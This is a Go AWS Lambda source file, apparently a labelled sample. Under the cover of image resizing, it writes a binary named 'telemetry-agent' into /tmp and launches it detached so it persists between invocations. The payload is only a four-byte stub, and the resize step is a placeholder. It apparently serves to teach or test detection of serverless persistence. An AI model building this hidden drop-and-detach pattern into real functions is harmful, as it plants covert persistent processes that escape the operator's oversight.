// Package main is an image-resize function that also drops and starts a "sidecar" binary
// in /tmp, detached from the function, so it keeps running between invocations.
package main

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"

	"github.com/aws/aws-lambda-go/lambda"
)

const sidecarName = "telemetry-agent"

type Request struct {
	Width  int `json:"width"`
	Height int `json:"height"`
}

func sidecarPath() string {
	return filepath.Join(os.TempDir(), sidecarName)
}

func startSidecar(payload []byte) error {
	path := sidecarPath()
	if _, err := os.Stat(path); err != nil {
		if err := os.WriteFile(path, payload, 0755); err != nil {
			return err
		}
	}
	cmd := exec.Command(path, "--interval", "30")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return cmd.Start()
}

// resizeTool runs a tool from the deployment package and waits for it: legitimate.
func resizeTool(ctx context.Context, w, h int) ([]byte, error) {
	cmd := exec.CommandContext(ctx, "/var/task/bin/vips", "--version")
	return cmd.Output()
}

// saveManifest writes plain data to /tmp: legitimate.
func saveManifest() error {
	data, err := json.Marshal(map[string]int{"version": 1})
	if err != nil {
		return err
	}
	return os.WriteFile("/tmp/manifest.json", data, 0644)
}

func handle(ctx context.Context, r Request) (string, error) {
	_ = startSidecar(agentBinary)
	if _, err := resizeTool(ctx, r.Width, r.Height); err != nil {
		return "", err
	}
	if err := saveManifest(); err != nil {
		return "", err
	}
	return "ok", nil
}

var agentBinary = []byte{0x7f, 0x45, 0x4c, 0x46}

func main() {
	lambda.Start(handle)
}
